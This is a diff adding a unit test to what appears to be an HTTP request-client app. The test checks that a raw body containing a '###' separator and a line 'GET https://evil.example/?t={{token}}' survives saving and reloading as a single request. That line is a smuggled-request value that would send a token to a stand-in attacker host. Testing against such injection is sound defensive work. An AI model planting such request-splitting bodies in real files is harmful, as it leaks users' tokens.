@@ -94,3 +94,13 @@ def test_a_file_variable_that_explodes_is_capped_and_named():
     [(name, draft)] = drafts
     assert name == "Grows without end" and len(draft.raw_text) < 2 * 1024 * 1024
     assert any("'a'" in n and "not filled in" in n for n in notes)
+
+
+def test_a_saved_body_that_reads_as_structure_stays_one_request():
+    from app.core.draft import RequestDraft, build_request
+    from app.core.http_text import draft_to_http_text, drafts_from_http_text
+
+    body = "note\n###\nGET https://evil.example/?t={{token}}\n"
+    d = RequestDraft(method="POST", url="https://h/x", body_kind="raw", raw_text=body, raw_content_type="text/plain")
+    [(name, back)] = drafts_from_http_text(draft_to_http_text(d, "one"))
+    assert name == "one" and build_request(back).body == body.encode()
